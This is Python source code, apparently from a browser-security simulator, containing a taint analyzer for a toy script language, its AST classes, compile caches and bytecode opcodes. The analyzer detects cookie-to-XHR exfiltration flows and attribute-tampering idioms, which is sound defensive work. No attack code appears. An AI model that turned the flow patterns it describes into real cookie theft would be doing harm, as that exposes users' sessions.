        top_cfg = _CfgBuilder(self.dead, self.unreachable).build(self.program.body)
        for info in self._functions.values():
            if info.reachable:
                builder = _CfgBuilder(self.dead, self.unreachable)
                info.cfg = builder.build(info.body.statements if info.body else [])

        # Interprocedural fixpoint: parameter/return/ambient tag sets only
        # ever grow and the tag universe is finite, so this terminates.
        for _ in range(100):
            self._changed = False
            self._run_dataflow(top_cfg, self._top_level_env())
            for info in self._functions.values():
                if not info.reachable or info.cfg is None:
                    continue
                returned = self._run_dataflow(info.cfg, self._function_env(info))
                self._merge(info.return_tags, returned)
            if not self._changed:
                break

        reachable_functions = sum(1 for info in self._functions.values() if info.reachable)
        return ScriptReport(
            digest=digest,
            sinks=frozenset(self.sinks),
            flows=frozenset(self.flows),
            dead_statements=tuple(sorted(self.dead)),
            unreachable_branches=tuple(sorted(self.unreachable)),
            step_bound=self._step_bound(),
            functions=reachable_functions,
            markers=frozenset(self._scan_markers()),
            error=None,
        )

    def _scan_markers(self) -> set[str]:
        """Syntactic sweep for the ESCUDO-specific escalation idioms.

        Reachability-agnostic on purpose: a tamper attempt buried in dead
        code is still a signature worth surfacing, and markers carry no
        soundness obligation so over-reporting is free.
        """
        markers: set[str] = set()
        for node in _walk_all(self.program):
            if isinstance(node, ast.StringLiteral):
                if _PRIVILEGED_MARKUP_RE.search(node.value):
                    markers.add(MARKER_PRIVILEGED_MARKUP)
            elif isinstance(node, ast.Call) and isinstance(node.callee, ast.MemberAccess):
                name = self._member_name(node.callee)
                if name == "setAttribute" and node.arguments:
                    first = node.arguments[0]
                    if isinstance(first, ast.StringLiteral) and first.value in PROTECTED_ATTRIBUTES:
                        markers.add(MARKER_TAMPER)
        return markers

    # -- discovery & reachability ------------------------------------------------------

    def _discover_functions(self) -> None:
        for node in _walk_all(self.program):
            if isinstance(node, ast.FunctionDeclaration):
                info = _FunctionInfo(len(self._functions), node.name, node.parameters,
                                     node.body, node.line, declaration=True)
                self._functions[id(node)] = info
                self._declared[node.name] = info
            elif isinstance(node, ast.FunctionExpression):
                info = _FunctionInfo(len(self._functions), node.name, node.parameters,
                                     node.body, node.line, declaration=False)
                self._functions[id(node)] = info

    def _compute_reachability(self) -> None:
        """Reachable region = top level + referenced declarations (fixpoint).

        A declaration can only run if its name is mentioned somewhere in
        reachable code (MiniScript has no eval / computed scope access);
        function *expressions* are values created by reachable code, so they
        inherit reachability from their enclosing region.
        """
        def region_nodes(statements):
            for statement in statements:
                yield from _walk(statement)

        def mark_expressions(statements) -> None:
            for node in region_nodes(statements):
                if isinstance(node, ast.FunctionExpression):
                    info = self._functions[id(node)]
                    if not info.reachable:
                        info.reachable = True
                        pending.append(info)

        referenced: set[str] = set()
        pending: list[_FunctionInfo] = []

        def scan(statements) -> None:
            mark_expressions(statements)
            for node in region_nodes(statements):
                if isinstance(node, ast.Identifier):
                    referenced.add(node.name)
                elif isinstance(node, ast.NewExpression):
                    referenced.add(node.constructor)

        scan(self.program.body)
        changed = True
        while changed:
            changed = False
            for info in self._declared.values():
                if not info.reachable and info.name in referenced:
                    info.reachable = True
                    pending.append(info)
                    changed = True
            while pending:
                info = pending.pop()
                scan(info.body.statements if info.body else [])

        for info in self._functions.values():
            if info.declaration and not info.reachable and info.line:
                self.dead.add(info.line)

    def _step_bound(self) -> int:
        """Node count of the reachable region (loop bodies counted once)."""
        count = sum(1 for _ in _walk(self.program))
        for info in self._functions.values():
            if info.reachable and info.body is not None:
                count += sum(1 for statement in info.body.statements for _ in _walk(statement))
        return count

    # -- dataflow ----------------------------------------------------------------------

    def _top_level_env(self) -> dict[str, set[str]]:
        env = {name: set(tags) for name, tags in _GLOBAL_TAGS.items()}
        for name, info in self._declared.items():
            if info.reachable:
                env[name] = {_FUNC_PREFIX + str(info.fid)}
        return env

    def _function_env(self, info: _FunctionInfo) -> dict[str, set[str]]:
        env = self._top_level_env()
        for name, slot in zip(info.parameters, info.param_tags):
            tags = set(slot)
            if info.handler:
                # Listener dispatch passes a plain payload dict derived from
                # the event; timers and XHR callbacks pass nothing.
                tags.add(SOURCE_EVENT)
            env[name] = tags
        return env

    def _run_dataflow(self, cfg: ControlFlowGraph, initial: dict[str, set[str]]) -> set[str]:
        """Worklist reaching-definition pass; returns the joined return tags."""
        states: dict[int, dict[str, set[str]] | None] = {b.index: None for b in cfg.blocks}
        states[cfg.entry] = initial
        returned: set[str] = set()
        worklist = [cfg.entry]
        visits: dict[int, int] = {}
        while worklist:
            index = worklist.pop()
            # Safety valve: tag sets only grow, so each block stabilises in a
            # bounded number of visits; the cap guards builder bugs.
            visits[index] = visits.get(index, 0) + 1
            if visits[index] > 200:
                continue
            state = states[index]
            if state is None:
                continue
            env = {name: set(tags) for name, tags in state.items()}
            for statement in cfg.blocks[index].statements:
                self._exec_statement(statement, env, returned)
            for successor in cfg.blocks[index].successors:
                existing = states[successor]
                if existing is None:
                    states[successor] = {name: set(tags) for name, tags in env.items()}
                    worklist.append(successor)
                else:
                    grew = False
                    for name, tags in env.items():
                        slot = existing.get(name)
                        if slot is None:
                            existing[name] = set(tags)
                            grew = True
                        elif not tags <= slot:
                            slot |= tags
                            grew = True
                    if grew:
                        worklist.append(successor)
        return returned

    def _exec_statement(self, statement, env, returned: set[str]) -> None:
        if isinstance(statement, tuple):  # ("test", expression)
            self._eval(statement[1], env)
            return
        if isinstance(statement, ast.VarDeclaration):
            tags = self._eval(statement.initializer, env) if statement.initializer is not None else set()
            self._assign(statement.name, tags, env)
            return
        if isinstance(statement, ast.FunctionDeclaration):
            info = self._functions[id(statement)]
            if info.reachable:
                self._assign(statement.name, {_FUNC_PREFIX + str(info.fid)}, env)
            return
        if isinstance(statement, ast.Return):
            if statement.value is not None:
                returned |= self._eval(statement.value, env)
            return
        if isinstance(statement, ast.ExpressionStatement):
            self._eval(statement.expression, env)
            return
        # Break/Continue markers and anything inert.
        return

    # -- abstract evaluation -----------------------------------------------------------

    def _assign(self, name: str, tags: set[str], env) -> None:
        env[name] = set(tags)
        ambient = self._ambient.setdefault(name, set())
        self._merge(ambient, tags)

    def _merge(self, target: set[str], tags) -> None:
        if not tags <= target:
            target |= tags
            self._changed = True

    def _flow(self, taints, sink: str) -> None:
        for taint in taints & TAINTS:
            pair = (taint, sink)
            if pair not in self.flows:
                self.flows.add(pair)
                self._changed = True

    def _sink(self, *categories: str) -> None:
        for category in categories:
            if category not in self.sinks:
                self.sinks.add(category)
                self._changed = True

    def _eval(self, node, env) -> set[str]:
        if node is None or isinstance(node, (ast.NumberLiteral, ast.StringLiteral,
                                             ast.BooleanLiteral, ast.NullLiteral)):
            return set()
        if isinstance(node, ast.Identifier):
            return self._lookup(node.name, env)
        if isinstance(node, ast.ArrayLiteral):
            tags: set[str] = set()
            for element in node.elements:
                tags |= self._eval(element, env)
            return tags
        if isinstance(node, ast.ObjectLiteral):
            tags = set()
            for _, value in node.entries:
                tags |= self._eval(value, env)
            return tags
        if isinstance(node, ast.FunctionExpression):
            info = self._functions[id(node)]
            return {_FUNC_PREFIX + str(info.fid)}
        if isinstance(node, ast.MemberAccess):
            target_tags = self._eval(node.target, env)
            return self._member_read(node, target_tags, env)
        if isinstance(node, ast.Call):
            return self._call(node, env)
        if isinstance(node, ast.NewExpression):
            return self._new(node, env)
        if isinstance(node, ast.Unary):
            return self._eval(node.operand, env) & TAINTS
        if isinstance(node, ast.Binary):
            left = self._eval(node.left, env)
            right = self._eval(node.right, env)
            if node.operator in ("&&", "||"):
                # Logical operators return one of their operand *values*.
                return left | right
            return (left | right) & TAINTS
        if isinstance(node, ast.Conditional):
            self._eval(node.test, env)
            return self._eval(node.consequent, env) | self._eval(node.alternate, env)
        if isinstance(node, ast.Assignment):
            value_tags = self._eval(node.value, env)
            target = node.target
            if isinstance(target, ast.Identifier):
                if node.operator != "=":
                    value_tags = value_tags | self._lookup(target.name, env)
                self._assign(target.name, value_tags, env)
            elif isinstance(target, ast.MemberAccess):
                receiver_tags = self._eval(target.target, env)
                self._member_write(target, receiver_tags, value_tags, env)
            return value_tags
        return set()

    def _lookup(self, name: str, env) -> set[str]:
        tags = env.get(name)
        if tags is not None:
            return set(tags)
        ambient = self._ambient.get(name)
        if ambient is not None:
            return set(ambient)
        return set()

    # -- member semantics ---------------------------------------------------------------

    @staticmethod
    def _member_name(node: ast.MemberAccess) -> str | None:
        if not node.computed:
            return node.name
        if isinstance(node.index, ast.StringLiteral):
            return node.index.value
        return None

    def _member_read(self, node: ast.MemberAccess, target_tags: set[str], env) -> set[str]:
        name = self._member_name(node)
        if node.computed and node.index is not None:
            self._eval(node.index, env)
        result: set[str] = set()
        taints = target_tags & TAINTS

        if _DOC in target_tags:
            if name == "cookie":
                self._sink(COOKIE_READ)
                result |= {SOURCE_COOKIE}
            elif name in _DOC_LOOKUP_METHODS:
                result |= {_CALL_LOOKUP}
            elif name == "write":
                result |= {_CALL_DOC_WRITE}
            elif name in ("body", "head"):
                result |= {_ELEM, SOURCE_DOM}
            elif name == "location":
                result |= {_LOC}
            elif name == "title":
                pass
            elif name is None:
                self._sink(COOKIE_READ)
                result |= {_ELEM, _LOC, _CALL_LOOKUP, _CALL_DOC_WRITE, SOURCE_COOKIE, SOURCE_DOM}
        if _ELEM in target_tags:
            if name in _ELEM_READ_PROPS:
                self._sink(DOM_READ, DOM_USE)
                result |= {SOURCE_DOM}
            elif name == "tagName":
                result |= {SOURCE_DOM}
            elif name == "getAttribute":
                result |= {_CALL_ELEM_READ}
            elif name in _ELEM_WRITE_METHODS:
                result |= {_CALL_ELEM_WRITE}
            elif name in _ELEM_LOOKUP_METHODS:
                result |= {_CALL_LOOKUP}
            elif name is None:
                self._sink(DOM_READ, DOM_USE)
                result |= {SOURCE_DOM, _CALL_ELEM_READ, _CALL_ELEM_WRITE, _CALL_LOOKUP}
        if _XHR in target_tags:
            if name in _XHR_TAINT_PROPS:
                result |= {SOURCE_XHR}
            elif name in _XHR_ARM_METHODS:
                result |= {_CALL_XHR_ARM}
            elif name == "send":
                result |= {_CALL_XHR_SEND}
            elif name == "getResponseHeader":
                result |= {_CALL_XHR_READ}
            elif name is None:
                result |= {SOURCE_XHR, _CALL_XHR_ARM, _CALL_XHR_SEND, _CALL_XHR_READ}
        if _WIN in target_tags:
            if name == "document":
                result |= {_DOC}
            elif name == "location":
                result |= {_LOC}
            elif name == "setTimeout":
                result |= {_CALL_TIMER}
            elif name == "console":
                result |= {_CONSOLE}
            elif name is None:
                result |= {_DOC, _LOC, _CALL_TIMER, _CONSOLE}
        if _UNKNOWN in target_tags:
            # Could be any host object: the read itself may mediate.
            self._sink(DOM_READ, DOM_USE, COOKIE_READ)
            result |= {_UNKNOWN, SOURCE_DOM, SOURCE_COOKIE, SOURCE_XHR}

        return result | taints

    def _member_write(self, node: ast.MemberAccess, target_tags: set[str],
                      value_tags: set[str], env) -> None:
        name = self._member_name(node)
        if node.computed and node.index is not None:
            self._eval(node.index, env)
        taints = (value_tags | target_tags) & TAINTS

        if _ELEM in target_tags:
            if name in _ELEM_WRITE_PROPS or name is None:
                self._sink(DOM_WRITE, DOM_USE)
                self._flow(taints, DOM_WRITE)
            if name is None or (name is not None and name.startswith("on")):
                self._sink(DOM_WRITE, DOM_USE)
                self._escape_handlers(value_tags)
        if _DOC in target_tags:
            if name == "cookie" or name is None:
                self._sink(COOKIE_WRITE)
                self._flow(taints, COOKIE_WRITE)
        if _XHR in target_tags:
            self._escape_handlers(value_tags)
        if _UNKNOWN in target_tags:
            self._sink(DOM_WRITE, DOM_USE, COOKIE_WRITE)
            self._flow(taints, DOM_WRITE)
            self._flow(taints, COOKIE_WRITE)
            self._escape_handlers(value_tags)
        # Weak update: a member write on a local container must make the
        # container's variable carry what was stored in it.
        if isinstance(node.target, ast.Identifier):
            merged = self._lookup(node.target.name, env) | value_tags
            self._assign(node.target.name, merged, env)

    # -- call semantics ----------------------------------------------------------------

    def _call(self, node: ast.Call, env) -> set[str]:
        arg_tags = [self._eval(argument, env) for argument in node.arguments]
        callee = node.callee
        if isinstance(callee, ast.MemberAccess):
            receiver_tags = self._eval(callee.target, env)
            member_tags = self._member_read(callee, receiver_tags, env)
            result = self._invoke_value(member_tags, arg_tags, receiver_taints=receiver_tags & TAINTS)
            # Method calls on armed XHR objects accumulate taint onto the
            # receiver variable so a later bare ``x.send()`` still reports
            # the flow.
            if _XHR in receiver_tags and isinstance(callee.target, ast.Identifier):
                poured: set[str] = set()
                for tags in arg_tags:
                    poured |= tags & TAINTS
                if poured:
                    merged = self._lookup(callee.target.name, env) | poured
                    self._assign(callee.target.name, merged, env)
            return result
        callee_tags = self._eval(callee, env)
        return self._invoke_value(callee_tags, arg_tags, receiver_taints=set())

    def _new(self, node: ast.NewExpression, env) -> set[str]:
        arg_tags = [self._eval(argument, env) for argument in node.arguments]
        ctor_tags = self._lookup(node.constructor, env)
        result: set[str] = set()
        if _CTOR_XHR in ctor_tags:
            result |= {_XHR}
        result |= self._invoke_value(ctor_tags - {_CTOR_XHR}, arg_tags, receiver_taints=set())
        return result

    def _invoke_value(self, callee_tags: set[str], arg_tags: list[set[str]],
                      *, receiver_taints: set[str]) -> set[str]:
        result: set[str] = set()
        all_arg_taints: set[str] = set()
        for tags in arg_tags:
            all_arg_taints |= tags & TAINTS

        for tag in callee_tags:
            if tag.startswith(_FUNC_PREFIX):
                info = self._function_by_fid(int(tag[len(_FUNC_PREFIX):]))
                if info is None:
                    continue
                if not info.reachable:
                    info.reachable = True
                    self._changed = True
                for index, tags in enumerate(arg_tags):
                    if index < len(info.param_tags):
                        self._merge(info.param_tags[index], tags)
                result |= info.return_tags

        if _CALL_ELEM_READ in callee_tags:
            self._sink(DOM_READ, DOM_USE)
            result |= {SOURCE_DOM}
        if _CALL_ELEM_WRITE in callee_tags:
            self._sink(DOM_WRITE, DOM_USE)
            self._flow(all_arg_taints | receiver_taints, DOM_WRITE)
            for tags in arg_tags:
                self._escape_handlers(tags)
        if _CALL_LOOKUP in callee_tags:
            result |= {_ELEM, SOURCE_DOM}
        if _CALL_DOC_WRITE in callee_tags:
            self._sink(DOM_READ, DOM_WRITE, DOM_USE)
            self._flow(all_arg_taints, DOM_WRITE)
        if _CALL_XHR_ARM in callee_tags:
            self._merge(self._xhr_taint, all_arg_taints)
        if _CALL_XHR_SEND in callee_tags:
            self._sink(XHR_USE, COOKIE_USE)
            self._flow(all_arg_taints | receiver_taints | self._xhr_taint, XHR_USE)
        if _CALL_XHR_READ in callee_tags:
            result |= {SOURCE_XHR}
        if _CALL_TIMER in callee_tags:
            for tags in arg_tags:
                self._escape_handlers(tags)
        if _UNKNOWN in callee_tags:
            # Could be any aliased native method: assume the worst.
            self._sink(*ALL_SINKS)
            self._flow(all_arg_taints, DOM_WRITE)
            self._flow(all_arg_taints, XHR_USE)
            for tags in arg_tags:
                self._escape_handlers(tags)
            result |= {_UNKNOWN}

        if not result and not (callee_tags - TAINTS):
            # Plain native helpers (String, JSON.parse, array/string methods)
            # return values derived from their inputs.
            result = all_arg_taints | (callee_tags & TAINTS)
        return result

    def _escape_handlers(self, tags: set[str]) -> None:
        for tag in tags:
            if tag.startswith(_FUNC_PREFIX):
                info = self._function_by_fid(int(tag[len(_FUNC_PREFIX):]))
                if info is None:
                    continue
                if not info.handler or not info.reachable:
                    info.handler = True
                    info.reachable = True
                    self._changed = True

    def _function_by_fid(self, fid: int) -> _FunctionInfo | None:
        for info in self._functions.values():
            if info.fid == fid:
                return info
        return None


# -- module entry points ----------------------------------------------------------------


def analyze_program(program: ast.Program, *, digest: str = "") -> ScriptReport:
    """Analyze a parsed program and return its :class:`ScriptReport`."""
    return ScriptAnalyzer(program).analyze(digest=digest)


def analyze_source(source: str, *, parse=parse_script) -> ScriptReport:
    """Parse + analyze ``source``; front-end failures yield an error report.

    A script that does not parse executes nothing, so its (empty) sink set
    is exact, not an approximation.  ``parse`` may be a bound
    :meth:`~repro.scripting.cache.ScriptAstCache.parse` to share the AST
    tier with the execution pipeline.
    """
    digest = script_digest(source)
    try:
        program = parse(source)
    except ScriptError as error:
        return ScriptReport(
            digest=digest,
            sinks=frozenset(),
            flows=frozenset(),
            dead_statements=(),
            unreachable_branches=(),
            step_bound=0,
            functions=0,
            error=str(error),
        )
    return analyze_program(program, digest=digest)
