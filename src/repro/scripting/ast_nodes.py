"""MiniScript abstract syntax tree.

Plain dataclasses, one per construct.  The interpreter dispatches on node
type; keeping the nodes dumb (no behaviour) makes them easy to construct in
tests.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional


@dataclass
class Node:
    """Base class for every AST node."""

    line: int = field(default=0, kw_only=True)


# -- expressions -----------------------------------------------------------------------


@dataclass
class NumberLiteral(Node):
    value: float


@dataclass
class StringLiteral(Node):
    value: str


@dataclass
class BooleanLiteral(Node):
    value: bool


@dataclass
class NullLiteral(Node):
    pass


@dataclass
class Identifier(Node):
    name: str


@dataclass
class ArrayLiteral(Node):
    elements: list[Node] = field(default_factory=list)


@dataclass
class ObjectLiteral(Node):
    entries: list[tuple[str, Node]] = field(default_factory=list)


@dataclass
class MemberAccess(Node):
    """``target.name`` or ``target[index]`` (``computed`` distinguishes them)."""

    target: Node = None
    name: Optional[str] = None
    index: Optional[Node] = None
    computed: bool = False


@dataclass
class Call(Node):
    """``callee(arg, ...)`` -- callee may be an identifier or member access."""

    callee: Node = None
    arguments: list[Node] = field(default_factory=list)


@dataclass
class NewExpression(Node):
    """``new Constructor(arg, ...)``."""

    constructor: str = ""
    arguments: list[Node] = field(default_factory=list)


@dataclass
class Unary(Node):
    operator: str = ""
    operand: Node = None


@dataclass
class Binary(Node):
    operator: str = ""
    left: Node = None
    right: Node = None


@dataclass
class Conditional(Node):
    """``test ? consequent : alternate``."""

    test: Node = None
    consequent: Node = None
    alternate: Node = None


@dataclass
class Assignment(Node):
    """``target = value`` (also ``+=`` / ``-=`` / ``*=`` / ``/=``)."""

    target: Node = None
    value: Node = None
    operator: str = "="


@dataclass
class FunctionExpression(Node):
    """``function (params) { body }`` used as a value (callbacks)."""

    parameters: list[str] = field(default_factory=list)
    body: "Block" = None
    name: Optional[str] = None


# -- statements -------------------------------------------------------------------------


@dataclass
class Block(Node):
    statements: list[Node] = field(default_factory=list)


@dataclass
class Program(Node):
    body: list[Node] = field(default_factory=list)


@dataclass
class VarDeclaration(Node):
    name: str = ""
    initializer: Optional[Node] = None


@dataclass
class FunctionDeclaration(Node):
    name: str = ""
    parameters: list[str] = field(default_factory=list)
    body: Block = None


@dataclass
class Return(Node):
    value: Optional[Node] = None


@dataclass
class If(Node):
    test: Node = None
    consequent: Node = None
    alternate: Optional[Node] = None


@dataclass
class While(Node):
    test: Node = None
    body: Node = None


@dataclass
class For(Node):
    """C-style ``for (init; test; update) body``."""

    init: Optional[Node] = None
    test: Optional[Node] = None
    update: Optional[Node] = None
    body: Node = None


@dataclass
class Break(Node):
    pass


@dataclass
class Continue(Node):
    pass


@dataclass
class ExpressionStatement(Node):
    expression: Node = None
