"""Script compilation cache: memoised lexer + parser output.

The scenario engine executes the same script sources over and over -- every
page load of an application re-runs its head scripts, every replayed attack
re-injects the same payload, every timer re-registers the same callbacks --
and the MiniScript front end (lexing + recursive-descent parsing) dominates
script execution cost for these short programs.

:class:`ScriptAstCache` memoises the front end keyed on the SHA-256 of the
source text.  Sharing one parsed :class:`~repro.scripting.ast_nodes.Program`
between executions is safe because the interpreter treats the AST as
read-only (exactly like a real engine sharing bytecode between realms): all
execution state lives in :class:`~repro.scripting.interpreter.Environment`
chains, never on the nodes.  Parse *errors* are memoised too -- a scenario
that replays a syntactically broken payload should not re-lex it a hundred
times just to rediscover the same :class:`ParseError`.

Both caches are process-portable: entries are plain ASTs / code objects /
exceptions with no handles on the owning process, so a warmed cache can be
pickled into a warm-state snapshot and shipped to worker processes (see
:mod:`repro.browser.compile_cache`).  :meth:`~ScriptAstCache.reset_counters`
is the restore side's hook for starting per-worker telemetry cold.
"""

from __future__ import annotations

import hashlib
from collections import OrderedDict

from . import ast_nodes as ast
from .errors import ScriptError
from .parser import parse_script

#: Default number of distinct sources retained.
DEFAULT_AST_CACHE_SIZE = 512

#: Default number of distinct compiled code objects retained.
DEFAULT_CODE_CACHE_SIZE = 512

#: Default number of distinct static-analysis reports retained.
DEFAULT_REPORT_CACHE_SIZE = 512


def _fresh_error(error: ScriptError) -> ScriptError:
    """Rebuild a cached error for re-raising.

    Re-raising the *same* exception object on every cache hit makes Python
    attach a fresh ``__traceback__`` to the shared instance each time, so
    traceback chains from prior executions accumulate on (and leak through)
    the cache entry.  A hit therefore raises an equal-but-fresh copy.
    """
    copy = error.__class__(error.message, error.line, error.column)
    copy.__cause__ = None
    return copy


class ScriptAstCache:
    """Bounded LRU of parsed programs keyed by source digest."""

    def __init__(self, maxsize: int = DEFAULT_AST_CACHE_SIZE) -> None:
        if maxsize <= 0:
            raise ValueError("AST cache maxsize must be positive")
        self.maxsize = maxsize
        self._entries: "OrderedDict[str, ast.Program | ScriptError]" = OrderedDict()
        self.hits = 0
        self.misses = 0

    def parse(self, source: str) -> ast.Program:
        """Parse ``source``, serving repeats from the cache.

        Raises exactly what :func:`~repro.scripting.parser.parse_script`
        raises for the same source -- a cached :class:`ParseError` is
        re-raised, so callers cannot tell a hit from a cold parse.
        """
        key = hashlib.sha256(source.encode("utf-8")).hexdigest()
        entries = self._entries
        cached = entries.get(key)
        if cached is not None:
            self.hits += 1
            entries.move_to_end(key)
            if isinstance(cached, ScriptError):
                raise _fresh_error(cached)
            return cached
        self.misses += 1
        try:
            program = parse_script(source)
        except ScriptError as error:
            self._store(key, error)
            raise
        self._store(key, program)
        return program

    def _store(self, key: str, value: "ast.Program | ScriptError") -> None:
        entries = self._entries
        if len(entries) >= self.maxsize:
            entries.popitem(last=False)
        entries[key] = value

    # -- introspection ---------------------------------------------------------------

    def reset_counters(self) -> None:
        """Zero the hit/miss counters, keeping every entry.

        Part of the warm-snapshot protocol: a worker restoring a shipped
        cache starts its *telemetry* cold (so per-worker hit rates describe
        that worker's own traffic) while the entries stay warm.
        """
        self.hits = 0
        self.misses = 0

    @property
    def hit_rate(self) -> float:
        """Fraction of parses served from the cache."""
        total = self.hits + self.misses
        return self.hits / total if total else 0.0

    def as_dict(self) -> dict[str, object]:
        """Counters for benchmark reports."""
        return {
            "hits": self.hits,
            "misses": self.misses,
            "hit_rate": self.hit_rate,
            "size": len(self._entries),
            "maxsize": self.maxsize,
        }

    def __len__(self) -> int:
        return len(self._entries)


class ScriptReportCache:
    """Bounded LRU of :class:`~repro.scripting.analysis.ScriptReport` values.

    Third compile-cache tier, alongside the AST and bytecode caches: where
    those memoise *how to run* a source, this memoises what the static
    analyzer *proves about* it.  A report depends only on the source text,
    so the same digest keying applies, and reports are frozen dataclasses of
    plain values -- fully process-portable, so a warmed report cache ships
    in warm-state snapshots exactly like the other tiers.

    Unlike the sibling caches this one never raises: a source that fails
    the front end still gets a (memoised) report with ``error`` set and an
    empty sink set, which is exact -- a script that does not parse executes
    nothing.
    """

    def __init__(self, maxsize: int = DEFAULT_REPORT_CACHE_SIZE) -> None:
        if maxsize <= 0:
            raise ValueError("report cache maxsize must be positive")
        self.maxsize = maxsize
        self._entries: "OrderedDict[str, object]" = OrderedDict()
        self.hits = 0
        self.misses = 0

    def report_for(self, source: str, *, parse=parse_script):
        """Analyze ``source``, serving repeats from the cache.

        ``parse`` is the front end used on a miss -- pass a bound
        :meth:`ScriptAstCache.parse` to share the AST tier with execution,
        so a screened run parses each distinct source once for all three
        consumers (analysis, walker, compiler).
        """
        from .analysis import analyze_source

        key = hashlib.sha256(source.encode("utf-8")).hexdigest()
        entries = self._entries
        cached = entries.get(key)
        if cached is not None:
            self.hits += 1
            entries.move_to_end(key)
            return cached
        self.misses += 1
        report = analyze_source(source, parse=parse)
        self._store(key, report)
        return report

    def _store(self, key: str, value) -> None:
        entries = self._entries
        if len(entries) >= self.maxsize:
            entries.popitem(last=False)
        entries[key] = value

    # -- introspection ---------------------------------------------------------------

    def reset_counters(self) -> None:
        """Zero the hit/miss counters, keeping every entry (see
        :meth:`ScriptAstCache.reset_counters`)."""
        self.hits = 0
        self.misses = 0

    @property
    def hit_rate(self) -> float:
        """Fraction of analyses served from the cache."""
        total = self.hits + self.misses
        return self.hits / total if total else 0.0

    def as_dict(self) -> dict[str, object]:
        """Counters for benchmark reports."""
        return {
            "hits": self.hits,
            "misses": self.misses,
            "hit_rate": self.hit_rate,
            "size": len(self._entries),
            "maxsize": self.maxsize,
        }

    def __len__(self) -> int:
        return len(self._entries)


class ScriptCodeCache:
    """Bounded LRU of compiled :class:`CodeObject` keyed by source digest.

    Sibling of :class:`ScriptAstCache` one tier further down: where the AST
    cache memoises the front end (lex + parse), this memoises the *back*
    end (constant folding + bytecode lowering), so a warm execution goes
    straight from source text to the VM dispatch loop.  Sharing one
    :class:`~repro.scripting.compiler.CodeObject` between executions -- and
    between principals -- is safe for the same reason sharing the AST is:
    all execution state lives in environment chains.  The embedded inline
    caches are the one mutable part, and they only memoise which dispatch
    ladder branch a site took (keyed on the receiver's class); every hit
    still performs the fully mediated ``js_get``/``js_set``/``js_call``, so
    cached code cannot leak one principal's verdicts to another.

    Front-end errors are memoised here too (as fresh copies on every hit,
    see :func:`_fresh_error`) so a replayed broken payload costs one digest.
    """

    def __init__(self, maxsize: int = DEFAULT_CODE_CACHE_SIZE) -> None:
        if maxsize <= 0:
            raise ValueError("code cache maxsize must be positive")
        self.maxsize = maxsize
        self._entries: "OrderedDict[str, object]" = OrderedDict()
        self.hits = 0
        self.misses = 0

    def code_for(self, source: str, *, parse=parse_script):
        """Compile ``source`` to bytecode, serving repeats from the cache.

        ``parse`` is the front end to use on a miss -- pass a bound
        :meth:`ScriptAstCache.parse` to stack the two tiers (an AST-cache
        hit then feeds only the lowering pass).  Raises exactly what the
        front end or compiler raises for the same source.
        """
        from .compiler import compile_program

        key = hashlib.sha256(source.encode("utf-8")).hexdigest()
        entries = self._entries
        cached = entries.get(key)
        if cached is not None:
            self.hits += 1
            entries.move_to_end(key)
            if isinstance(cached, ScriptError):
                raise _fresh_error(cached)
            return cached
        self.misses += 1
        try:
            code = compile_program(parse(source))
        except ScriptError as error:
            self._store(key, error)
            raise
        self._store(key, code)
        return code

    def _store(self, key: str, value) -> None:
        entries = self._entries
        if len(entries) >= self.maxsize:
            entries.popitem(last=False)
        entries[key] = value

    # -- introspection ---------------------------------------------------------------

    def reset_counters(self) -> None:
        """Zero the hit/miss counters, keeping every entry (see
        :meth:`ScriptAstCache.reset_counters`)."""
        self.hits = 0
        self.misses = 0

    @property
    def hit_rate(self) -> float:
        """Fraction of compilations served from the cache."""
        total = self.hits + self.misses
        return self.hits / total if total else 0.0

    def as_dict(self) -> dict[str, object]:
        """Counters for benchmark reports."""
        return {
            "hits": self.hits,
            "misses": self.misses,
            "hit_rate": self.hit_rate,
            "size": len(self._entries),
            "maxsize": self.maxsize,
        }

    def __len__(self) -> int:
        return len(self._entries)
