"""MiniScript bytecode compiler: constant folding + lowering to stack code.

The tree walker (:mod:`repro.scripting.interpreter`) re-dispatches on node
types for every executed node; with the front end memoised by
:class:`~repro.scripting.cache.ScriptAstCache` that dispatch became the
dominant per-run cost.  This module lowers a (cached, shared, read-only)
AST once into a compact :class:`CodeObject` -- a flat instruction list plus
a constant pool -- which :class:`~repro.scripting.vm.VirtualMachine`
executes in a tight dispatch loop.

The compiler is a *pure* function of the AST: it never mutates the input
tree (cached programs are shared between executions), and the emitted code
preserves the walker's observable semantics exactly -- evaluation order,
value coercions, error messages and line attributions, completion values,
and the dynamic break/continue behaviour where a signal raised inside a
called function unwinds into the caller's innermost loop (the loop-region
table below is what makes that work without try/except per iteration).

Constant folding
----------------
:func:`fold_program` pre-evaluates pure literal expressions using the
*walker's own* coercion helpers, so a folded result is bit-identical to the
runtime result.  Anything that could raise at runtime (``1 % 0`` is a
Python ``ZeroDivisionError`` in both engines) is left unfolded so the error
still happens at the same point, and folded nodes keep the original line
numbers for error attribution.
"""

from __future__ import annotations

from typing import Any, Optional

from . import ast_nodes as ast
from .errors import RuntimeScriptError
from .interpreter import (
    _compare,
    _loose_equal,
    _to_number,
    _to_string,
    _truthy,
    _typeof,
)

# -- opcodes ----------------------------------------------------------------------------
# Numbered roughly by dynamic frequency: the VM dispatches through an
# if/elif chain, so hot opcodes get the early comparisons.

LOAD_NAME = 0
LOAD_CONST = 1
GET_MEMBER = 2
BIN_ADD = 3
BIN_LT = 4
STORE_NAME = 5
JUMP_IF_FALSE = 6
JUMP = 7
CALL_METHOD = 8
CALL_FUNCTION = 9
RES_STORE = 10
RES_CLEAR = 11
POP = 12
BIN_SUB = 13
BIN_MUL = 14
BIN_DIV = 15
BIN_MOD = 16
BIN_EQ = 17
BIN_NE = 18
BIN_GT = 19
BIN_LE = 20
BIN_GE = 21
GET_MEMBER_COMPUTED = 22
SET_MEMBER = 23
SET_MEMBER_COMPUTED = 24
CALL_METHOD_COMPUTED = 25
DEFINE_NAME = 26
DUP = 27
UNARY_NOT = 28
UNARY_NEG = 29
UNARY_POS = 30
TYPEOF = 31
JUMP_IF_FALSE_OR_POP = 32
JUMP_IF_TRUE_OR_POP = 33
BUILD_ARRAY = 34
BUILD_OBJECT = 35
MAKE_FUNCTION = 36
NEW = 37
COMPOUND = 38
ENTER_SCOPE = 39
EXIT_SCOPE = 40
SETUP_SOFT = 41
POP_SOFT = 42
RETURN_VALUE = 43
RAISE_RETURN = 44
RAISE_BREAK = 45
RAISE_CONTINUE = 46
END_PROGRAM = 47
# Fused compare-and-branch (loop/if tests): pop operands, jump when the
# comparison is *false*.  The _CONST variants take ``[constant, target]``.
JF_LT = 48
JF_GT = 49
JF_LE = 50
JF_GE = 51
JF_EQ = 52
